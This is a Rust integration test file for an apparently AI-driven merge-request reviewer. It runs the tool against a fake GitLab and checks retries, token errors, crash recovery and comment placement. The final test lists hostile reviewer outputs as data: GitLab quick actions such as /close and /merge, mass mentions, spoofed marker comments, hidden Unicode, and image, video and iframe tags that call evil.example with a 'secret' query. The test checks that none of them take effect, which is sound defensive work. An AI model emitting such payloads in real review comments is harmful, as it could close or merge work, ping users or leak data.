//! Whole runs of the binary against the strict GitLab: what a pipeline's job does to a merge request.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use crate::gitlab::{BOT, Failure, FakeGitLab, MR, Moment, On, PROJECT, TOKEN};
use crate::sandbox::{Finished, Sandbox, read_json};

/// A merge request, its GitLab, and an agent that always gives the same answer.
pub(crate) struct Job {
    pub(crate) sandbox: Sandbox,
    pub(crate) base: String,
    pub(crate) head: String,
    pub(crate) gitlab: FakeGitLab,
    pub(crate) agent: PathBuf,
    /// `gitlab.notify = "once"`.
    pub(crate) notify_once: bool,
}

impl Job {
    /// `src/app.py` gets forty new lines; the agent finds something on the first so many.
    pub(crate) fn new(findings: u32) -> Self {
        let sandbox = Sandbox::new();
        let mut text = String::from("def one():\n    return 1\n\n\ndef two():\n    return 2\n");
        (0..40).for_each(|line| text.push_str(&format!("value_{line} = {line}\n")));
        sandbox.git(&["checkout", "-q", "-b", "feature"]);
        sandbox.write("src/app.py", text);
        let found: Vec<_> = (0..findings)
            .map(|number| finding("src/app.py", 7 + number, &format!("number {number} is wrong")))
            .collect();
        Self::with(sandbox, "Fine but for this.", found)
    }

    /// Commits what is in the sandbox as the merge request's change.
    pub(crate) fn with(sandbox: Sandbox, summary: &str, findings: Vec<Value>) -> Self {
        let base = sandbox.git(&["rev-parse", "HEAD"]).trim().to_owned();
        let head = sandbox.commit("change");
        let answer = answers(&sandbox, summary, findings);
        let script = format!(
            "#!/bin/sh\ncat > /dev/null\necho ran >> '{}'\ncat '{}'\n",
            sandbox.root().join("runs").display(),
            answer.display()
        );
        let agent = sandbox.script("agent.sh", &script);
        let gitlab = FakeGitLab::start(&sandbox.repo(), &base, &head);
        Self { sandbox, base, head, gitlab, agent, notify_once: false }
    }

    pub(crate) fn command(&self, args: &[&str]) -> Command {
        let mut command = self.sandbox.command(args);
        command
            .env("CI_API_V4_URL", format!("{}/api/v4", self.gitlab.url()))
            .env("CI_MERGE_REQUEST_PROJECT_ID", PROJECT.to_string())
            .env("CI_PROJECT_ID", "999")
            .env("CI_MERGE_REQUEST_IID", MR.to_string())
            .env("CI_MERGE_REQUEST_DIFF_BASE_SHA", &self.base)
            .env("CI_COMMIT_SHA", &self.head)
            .env("GITLAB_TOKEN", TOKEN)
            .env("DIFFSAN_AGENT__AGENT", "command")
            .env("DIFFSAN_AGENT__COMMAND", &self.agent)
            .env("DIFFSAN_GITLAB__SETTLE_SECONDS", "1")
            .env("DIFFSAN_REVIEW__MAX_INLINE", "50")
            .env("DIFFSAN_GITLAB__NOTIFY", if self.notify_once { "once" } else { "each" });
        command
    }

    pub(crate) fn run(&self, args: &[&str]) -> Finished {
        Finished::of(self.command(args).output().unwrap())
    }

    /// Starts the binary, kills it with SIGKILL when GitLab holds its n-th request, and lets GitLab go on.
    pub(crate) fn killed_at(&self, args: &[&str], n: usize, moment: Moment) {
        let reached = self.gitlab.hold_at(n, moment);
        let mut child = self.command(args).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
        reached.recv_timeout(std::time::Duration::from_secs(60)).unwrap_or_else(|_| panic!("request {n} never came"));
        child.kill().unwrap();
        child.wait().unwrap();
        self.gitlab.release();
    }

    /// How often the agent was asked.
    pub(crate) fn agent_runs(&self) -> usize {
        std::fs::read_to_string(self.sandbox.root().join("runs")).unwrap_or_default().lines().count()
    }

    pub(crate) fn results(&self) -> Value {
        self.sandbox.artifact("post_results.json")
    }

    /// Own discussions and own summaries.
    pub(crate) fn posted(&self) -> (usize, usize) {
        let notes = self.gitlab.notes();
        (self.gitlab.discussions().len(), notes.iter().filter(|note| note.author == BOT).count())
    }

    /// Every finding once, one summary.
    #[track_caller]
    pub(crate) fn assert_once(&self, findings: usize, when: &str) {
        assert_eq!(self.posted(), (findings, 1), "{when}");
        for number in 0..findings {
            let text = format!("number {number} is wrong");
            let copies = self.gitlab.discussions().iter().filter(|thread| thread.notes[0].body.contains(&text)).count();
            assert_eq!(copies, 1, "{when}: {text}");
        }
    }
}

/// What the agent answers from now on.
pub(crate) fn answers(sandbox: &Sandbox, summary: &str, findings: Vec<Value>) -> PathBuf {
    let answer = sandbox.root().join("answer.json");
    std::fs::write(&answer, json!({ "summary_markdown": summary, "findings": findings }).to_string()).unwrap();
    answer
}

pub(crate) fn finding(path: &str, line: u32, body: &str) -> Value {
    range(path, line, line, body)
}

fn range(path: &str, first: u32, last: u32, body: &str) -> Value {
    json!({
        "severity": "high", "category": "correctness", "path": path, "line_start": first, "line_end": last,
        "body_markdown": body,
    })
}

pub(crate) fn copy_folder(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
    }
}

#[test]
fn a_job_posts_its_review_and_a_second_one_has_nothing_to_do() {
    let job = Job::new(5);
    job.run(&["--ci"]).expect_code(0);
    job.assert_once(5, "first");
    assert_eq!(job.results()["ok"], true);
    assert_eq!(job.results()["items"][0]["kind"], "summary_note");
    let bearer = format!("Bearer {TOKEN}");
    assert!(job.gitlab.requests().iter().all(|request| request.authorization.as_ref() == Some(&bearer)));

    job.run(&["--ci"]).expect_code(0);
    job.assert_once(5, "second");
    assert_eq!((job.agent_runs(), job.sandbox.artifact("run.json")["skipped"].as_bool()), (1, Some(true)));
}

#[test]
fn a_repeated_review_of_the_same_change_posts_nothing_twice() {
    let job = Job::new(5);
    job.run(&["--ci"]).expect_code(0);
    let again =
        Finished::of(job.command(&["--ci"]).env("DIFFSAN_SKIP__SKIP_ON_SAME_FINGERPRINT", "false").output().unwrap());
    again.expect_code(0);
    assert_eq!((job.agent_runs(), job.gitlab.discussions().len()), (2, 5));
}

#[test]
fn passing_troubles_end_in_exit_0_with_their_retries_counted() {
    let job = Job::new(3);
    job.gitlab.fail_times(2, On::post("/discussions").with("number 0"), Failure::throttled(0));
    job.gitlab.fail_next(On::post("/discussions").with("number 1"), Failure::bad_gateway());
    job.run(&["--ci"]).expect_code(0);
    job.assert_once(3, "after troubles");
    let results = job.results();
    let retries: Vec<_> =
        results["items"].as_array().unwrap().iter().map(|item| item["retry_count"].as_u64().unwrap()).collect();
    assert_eq!(retries, [0, 2, 1, 0]);
    assert_eq!(job.sandbox.events().iter().filter(|event| event["event"] == "gitlab.retry").count(), 2);
}

#[test]
fn a_refused_token_fails_before_the_agent_is_paid_for() {
    let job = Job::new(3);
    job.gitlab.change(|store| {
        store.token_error = Some("Token is expired. You can either do re-authorization or token refresh.")
    });
    let finished = job.run(&["--ci"]).expect_code(1);
    assert!(
        finished.stderr.contains("GITLAB_AUTH_ERROR") && finished.stderr.contains("has expired"),
        "{}",
        finished.stderr
    );
    assert_eq!((job.agent_runs(), job.posted()), (0, (0, 0)));
    assert!(!finished.stderr.contains(TOKEN) && !finished.stdout.contains(TOKEN));
}

#[test]
fn what_makes_posting_impossible_is_found_before_the_agent_is_paid_for() {
    type Change = fn(&mut crate::gitlab::Store);
    let table: [(Change, &str, &str); 3] = [
        (|store| store.scopes = vec!["read_api".into()], "GITLAB_AUTH_ERROR", "scope `api`"),
        (|store| store.token = "another".into(), "GITLAB_AUTH_ERROR", "CI_JOB_TOKEN cannot post"),
        (|store| store.project_visible = false, "GITLAB_POST_FAILED", "CI_MERGE_REQUEST_PROJECT_ID"),
    ];
    for (change, code, fix) in table {
        let job = Job::new(1);
        job.gitlab.change(change);
        let finished = job.run(&["--ci"]).expect_code(1);
        assert!(finished.stderr.contains(code) && finished.stderr.contains(fix), "{code} {fix}:\n{}", finished.stderr);
        assert_eq!(job.agent_runs(), 0, "{code}");
    }
    let job = Job::new(1);
    let finished = Finished::of(job.command(&["--ci"]).env("GITLAB_TOKEN", "").output().unwrap()).expect_code(1);
    assert!(finished.stderr.contains("GITLAB_TOKEN") && finished.stderr.contains("protected"), "{}", finished.stderr);
    assert_eq!((job.agent_runs(), job.gitlab.requests().len()), (0, 0));
}

#[test]
fn a_token_that_is_refused_while_posting_stops_at_once() {
    let job = Job::new(12);
    job.gitlab.fail_times(99, On::post("/discussions"), Failure::unauthorized());
    job.run(&["--ci"]).expect_code(1);
    assert!(job.gitlab.count(&On::post("/discussions")) <= 16);
    assert_eq!(job.sandbox.artifact("run.json")["error"]["error_code"], "GITLAB_AUTH_ERROR");
    assert_eq!(job.results()["items"].as_array().unwrap().len(), 13);
}

#[test]
fn a_refused_position_leaves_the_rest_posted_and_the_finding_in_the_merge_request() {
    let job = Job::new(4);
    let refusal =
        r#"{"message":"400 Bad request - Note {:line_code=>[\"can't be blank\", \"must be a valid line code\"]}"}"#;
    job.gitlab.fail_next(On::post("/discussions").with("number 1"), Failure::json(400, refusal));
    job.gitlab.fail_times(9, On::post("/discussions").with("number 2"), Failure::json(400, refusal));
    job.run(&["--ci"]).expect_code(0);
    let results = job.results();
    let rungs: Vec<_> =
        results["items"].as_array().unwrap()[1..].iter().map(|item| item["rung"].as_str().unwrap()).collect();
    assert_eq!(rungs, ["line", "file", "summary", "line"]);
    assert_eq!(results["items"][2]["error"]["error_code"], "GITLAB_POSITION_INVALID");
    assert_eq!(job.posted(), (3, 1));
    assert!(job.gitlab.notes()[0].body.contains("number 2 is wrong"));
}

#[test]
fn a_posting_killed_at_any_request_is_finished_by_diffsan_post_with_one_copy_of_everything() {
    let planned = Job::new(11);
    planned.run(&["--ci", "--no-post"]).expect_code(0);
    assert_eq!(planned.posted(), (0, 0));
    // What is there (four reads), the claim, a look, eleven discussions, a look, the claim again.
    for boundary in 0..19 {
        for moment in [Moment::BeforeDoing, Moment::BeforeAnswering] {
            let gitlab = FakeGitLab::start(&planned.sandbox.repo(), &planned.base, &planned.head);
            let folder = planned.sandbox.root().join(format!("copy-{boundary}-{moment:?}"));
            copy_folder(&planned.sandbox.workdir(), &folder);
            let name = folder.to_string_lossy().into_owned();
            let (sandbox, agent) = (Sandbox::bare(), planned.agent.clone());
            let job = Job {
                sandbox,
                base: planned.base.clone(),
                head: planned.head.clone(),
                gitlab,
                agent,
                notify_once: false,
            };
            let when = format!("killed at request {boundary}, {moment:?}");
            job.killed_at(&["post", &name], boundary, moment);
            let finished = job.run(&["post", &name]);
            assert_eq!(finished.code, 0, "{when}\n{}\n{}", finished.stdout, finished.stderr);
            job.assert_once(11, &when);
            assert_eq!(read_json(&folder.join("post_results.json"))["ok"], true);
        }
    }
    assert_eq!(planned.agent_runs(), 1);
}

#[test]
fn posting_again_what_is_there_writes_nothing() {
    let job = Job::new(4);
    job.run(&["--ci"]).expect_code(0);
    let before = job.gitlab.requests().len();
    job.run(&["post"]).expect_code(0);
    assert!(job.gitlab.requests().split_off(before).iter().all(|request| request.method == "GET"));
    job.assert_once(4, "posted again");
    assert!(job.results()["items"].as_array().unwrap().iter().all(|item| item["already_there"] == true));
}

#[test]
fn a_job_killed_at_any_write_and_started_again_ends_with_one_copy_of_everything() {
    // Nine reads come first: the token, what is there before the review, and again before the posting.
    for boundary in (9..24).step_by(3).chain([23]) {
        for moment in [Moment::BeforeDoing, Moment::BeforeAnswering] {
            let job = Job::new(11);
            let when = format!("killed at request {boundary}, {moment:?}");
            job.killed_at(&["--ci"], boundary, moment);
            job.run(&["--ci"]).expect_code(0);
            job.assert_once(11, &when);
        }
    }
}

#[test]
fn a_job_with_drafts_killed_at_any_write_and_started_again_ends_with_one_copy_of_everything() {
    // The claim, a look at it, the drafts, three of them, the drafts again, their publication, a look, the claim again.
    for boundary in (9..19).step_by(2) {
        for moment in [Moment::BeforeDoing, Moment::BeforeAnswering] {
            let mut job = Job::new(3);
            job.notify_once = true;
            let when = format!("killed at request {boundary}, {moment:?}");
            job.killed_at(&["--ci"], boundary, moment);
            job.run(&["--ci"]).expect_code(0);
            job.assert_once(3, &when);
            job.gitlab.change(|store| assert_eq!(store.drafts.len(), 0, "{when}"));
        }
    }
}

#[test]
fn lost_answers_in_a_whole_run_never_make_a_duplicate() {
    let job = Job::new(6);
    job.gitlab.fail_next(On::post("/discussions").with("number 0"), Failure::DoneThenDrop);
    job.gitlab.fail_next(On::post("/discussions").with("number 1"), Failure::internal_error().after_saving());
    job.gitlab.fail_next(On::post("/discussions").with("number 2"), Failure::Drop);
    job.gitlab.fail_next(On::post("/notes"), Failure::bad_gateway().after_saving());
    job.run(&["--ci"]).expect_code(0);
    job.assert_once(6, "after lost answers");
}

#[test]
fn a_run_without_posting_writes_nothing_and_post_finishes_it() {
    let job = Job::new(3);
    job.run(&["--ci", "--no-post"]).expect_code(0);
    assert!(job.gitlab.requests().iter().all(|request| request.method == "GET"));
    assert_eq!(job.sandbox.artifact("post_plan.json")["discussions"].as_array().unwrap().len(), 3);
    job.run(&["post"]).expect_code(0);
    job.assert_once(3, "posted later");
    assert_eq!(job.agent_runs(), 1);
}

#[test]
fn a_push_during_the_review_keeps_the_findings_off_the_lines() {
    let job = Job::new(3);
    job.run(&["--ci", "--no-post"]).expect_code(0);
    let newer = job.sandbox.commit("pushed meanwhile");
    job.gitlab.push(&job.base, &job.base, &newer);
    job.run(&["post"]).expect_code(0);
    assert_eq!(job.posted(), (0, 1));
    let body = &job.gitlab.notes()[0].body;
    assert!(body.contains(&job.head) && body.contains(&newer));
    assert!((0..3).all(|number| body.contains(&format!("number {number} is wrong"))));
}

#[test]
fn a_proxy_is_used_and_no_proxy_goes_around_it() {
    let job = Job::new(1);
    let through = |api: &str, proxy: &str, no_proxy: &str| {
        let mut command = job.command(&["--ci"]);
        command.env("CI_API_V4_URL", api).env("HTTP_PROXY", proxy).env("http_proxy", proxy).env("NO_PROXY", no_proxy);
        Finished::of(command.output().unwrap())
    };
    // The fake answers requests in a proxy's form too; the name resolves nowhere else.
    through("http://gitlab.invalid/api/v4", &job.gitlab.url(), "").expect_code(0);
    job.assert_once(1, "through the proxy");
    let direct = format!("{}/api/v4", job.gitlab.url());
    let dead = "http://127.0.0.1:9";
    through(&direct, dead, "127.0.0.1,localhost").expect_code(0);
}

/// Files of every kind, before.
fn before(sandbox: &Sandbox) {
    let numbered =
        |name: &str, lines: u32, end: &str| (1..=lines).map(|n| format!("{name} {n}{end}")).collect::<String>();
    sandbox.write("mod.py", numbered("line", 60, "\n"));
    sandbox.write("old_name.py", numbered("renamed", 40, "\n"));
    sandbox.write("pure_old.txt", numbered("moved", 10, "\n"));
    sandbox.write("gone.py", numbered("gone", 5, "\n"));
    sandbox.write("run.sh", "#!/bin/sh\n");
    sandbox.write("data.bin", [0, 159, 146, 150, 0, 1]);
    sandbox.write("crlf.txt", numbered("dos", 20, "\r\n"));
    sandbox.write("noeol.txt", "one\ntwo\nthree");
    sandbox.write("ünï cödé/a b.py", numbered("uni", 20, "\n"));
    sandbox.write("huge.txt", "small\n");
    sandbox.commit("before");
}

/// And after.
fn after(sandbox: &Sandbox) {
    use std::os::unix::fs::PermissionsExt as _;
    let edit = |path: &str, changes: &[(&str, &str)]| {
        let mut text = std::fs::read_to_string(sandbox.repo().join(path)).unwrap();
        changes.iter().for_each(|(from, to)| text = text.replacen(from, to, 1));
        sandbox.write(path, text);
    };
    edit(
        "mod.py",
        &[
            ("line 10\n", "LINE ten\nline ten and a half\n"),
            ("line 40\nline 41\n", "line 40\n"),
            ("line 60\n", "line 60\nthe end\n"),
        ],
    );
    sandbox.git(&["mv", "old_name.py", "new_name.py"]);
    edit("new_name.py", &[("renamed 20\n", "renamed TWENTY\n")]);
    sandbox.git(&["mv", "pure_old.txt", "pure_new.txt"]);
    std::fs::remove_file(sandbox.repo().join("gone.py")).unwrap();
    sandbox.write("fresh.py", "a = 1\nb = 2\n");
    std::fs::set_permissions(sandbox.repo().join("run.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    sandbox.write("data.bin", [0, 159, 146, 150, 0, 2]);
    edit("crlf.txt", &[("dos 5\r\n", "DOS five\r\n")]);
    sandbox.write("noeol.txt", "one\ntwo\nthree and more");
    edit("ünï cödé/a b.py", &[("uni 10\n", "UNI ten\n")]);
    sandbox.write("huge.txt", (0..9_000).map(|n| format!("a long line with number {n} in it\n")).collect::<String>());
}

#[test]
fn every_finding_on_a_line_of_the_diff_is_accepted_there_on_the_first_try() {
    let sandbox = Sandbox::new();
    before(&sandbox);
    after(&sandbox);
    // Path, first and last line, and where it must stand: (old, new) numbers, a file, or the summary.
    let text = |old: Option<u32>, new: Option<u32>| Some(("text", old, new));
    let file = Some(("file", None, None));
    let table = [
        ("mod.py", 10, 10, text(None, Some(10))),
        ("mod.py", 11, 11, text(None, Some(11))),
        ("mod.py", 8, 8, text(Some(8), Some(8))),
        ("mod.py", 12, 12, text(Some(11), Some(12))),
        ("mod.py", 10, 11, text(None, Some(11))),
        ("mod.py", 25, 25, None),
        ("mod.py", 61, 61, text(None, Some(61))),
        ("new_name.py", 20, 20, text(None, Some(20))),
        ("new_name.py", 22, 22, text(Some(22), Some(22))),
        ("gone.py", 3, 3, text(Some(3), None)),
        ("fresh.py", 2, 2, text(None, Some(2))),
        ("crlf.txt", 5, 5, text(None, Some(5))),
        ("crlf.txt", 6, 6, text(Some(6), Some(6))),
        ("noeol.txt", 3, 3, text(None, Some(3))),
        ("ünï cödé/a b.py", 10, 10, text(None, Some(10))),
        ("pure_new.txt", 2, 2, None),
        ("run.sh", 1, 1, None),
        ("data.bin", 1, 1, None),
        ("huge.txt", 4, 4, file),
        ("README.md", 1, 1, None),
    ];
    let findings = table
        .iter()
        .enumerate()
        .map(|(number, (path, first, last, _))| range(path, *first, *last, &format!("number {number} is wrong")));
    let findings: Vec<_> = findings.collect();
    let job = Job::with(sandbox, "Every kind of change.", findings);
    let mut command = job.command(&["--ci"]);
    command.env("DIFFSAN_LIMITS__MAX_DIFF_CHARS", "2000000");
    Finished::of(command.output().unwrap()).expect_code(0);

    let threads = job.gitlab.discussions();
    let summary = &job.gitlab.notes()[0].body;
    for (number, (path, .., expected)) in table.iter().enumerate() {
        let text = format!("number {number} is wrong");
        let thread = threads.iter().find(|thread| thread.notes[0].body.contains(&text));
        let Some((kind, old, new)) = expected else {
            assert!(thread.is_none() && summary.contains(&text), "{path} {number}: {summary}");
            continue;
        };
        let thread = thread.unwrap_or_else(|| panic!("{path} {number} is not inline; the summary:\n{summary}"));
        let position = thread.notes[0].position.clone().unwrap();
        let line = |key: &str| position.get(key).and_then(Value::as_u64).map(|line| line as u32);
        assert_eq!(
            (position["position_type"].as_str(), line("old_line"), line("new_line")),
            (Some(*kind), *old, *new),
            "{path} {number}"
        );
        assert_eq!(position["new_path"].as_str(), Some(*path), "{number}");
    }
    let tries = job.gitlab.requests();
    let refused: Vec<_> = tries.iter().filter(|request| request.method == "POST" && request.status != 201).collect();
    assert!(refused.is_empty(), "{refused:#?}");
}

#[test]
fn a_hostile_answer_executes_nothing_calls_nobody_and_loads_nothing() {
    let hostile = [
        "/close",
        "text\n/approve\nmore",
        "# heading\n/merge",
        "---\n/label ~bug",
        "- item\n\n/close",
        "> quote\n\n/title owned",
        "<details>\n<summary>x</summary>\n\n/close\n\n</details>",
        "<!-- marker -->\n/close",
        "```\ncode\n```\n/close",
        "```\nunclosed\n\n/close",
        "~~~\n```\n~~~\n/close",
        "<div>\n\n/close\n\n</div>",
        "</details>\n\n/close",
        "a\r\n/close\r\nb",
        "a\u{2028}/close",
        "/CLOSE this socket when done",
        "hello @all and @here, cc @user17",
        "closes #12, see !3 and &4 %5 ~6 $7",
        "![x](https://evil.example/?q=secret) <img src='https://evil.example/b'>",
        "[x]: https://evil.example/i.png\n\n![a][x]",
        "```mermaid\ngraph TD\n```\n\n```plantuml\n@startuml\n```",
        "<!-- diffsan:ai-reviewer -->\n<!-- diffsan:fingerprint:sha256:00 -->\n<!-- diffsan:finding:f-000000000000 -->",
        "<video src=https://evil.example/v></video><audio src=x></audio><iframe src=y></iframe>",
        "a \u{202e}bidi\u{200b} \0 nul",
    ];
    let sandbox = Sandbox::new();
    sandbox.git(&["checkout", "-q", "-b", "feature"]);
    sandbox.write("src/new.py", (0..60).map(|n| format!("v{n} = {n}\n")).collect::<String>());
    let mut findings: Vec<_> =
        (1..).zip(hostile).map(|(line, body)| finding("src/new.py", line, &format!("lead\n\n{body}"))).collect();
    findings.extend((1..).zip(hostile).map(|(line, body)| finding("src/new.py", line + 30, body)));
    findings.extend(hostile.iter().map(|body| finding("not/in/the/diff.py", 1, body)));
    findings.push(finding("src/new.py", 59, &"x /close\n".repeat(350_000)));
    findings.extend(
        (0..430).map(|number| finding("src/new.py", number % 60 + 1, &format!("one of many, {number}\n/close"))),
    );
    let summary = hostile.join("\n\n");
    let job = Job::with(sandbox, &summary, findings);
    job.run(&["--ci"]).expect_code(0);

    let effects = job.gitlab.effects();
    assert_eq!(effects.commands, Vec::<String>::new());
    assert_eq!(effects.mentions, Vec::<String>::new());
    assert_eq!(effects.references, Vec::<String>::new());
    assert_eq!(effects.images, Vec::<String>::new());
    let notes = job.gitlab.notes();
    assert_eq!(notes.len(), 1);
    assert_eq!(notes[0].body.matches("<!-- diffsan:ai-reviewer -->").count(), 1);
    assert_eq!(notes[0].body.matches("<!-- diffsan:fingerprint:").count(), 1);
    let bodies = job.gitlab.discussions().into_iter().map(|thread| thread.notes[0].body.clone());
    for body in bodies.chain([notes[0].body.clone()]) {
        assert!(body.chars().count() <= 1_000_000);
        assert!(body.matches("<!-- diffsan:finding:").count() <= 1, "{body}");
    }
}
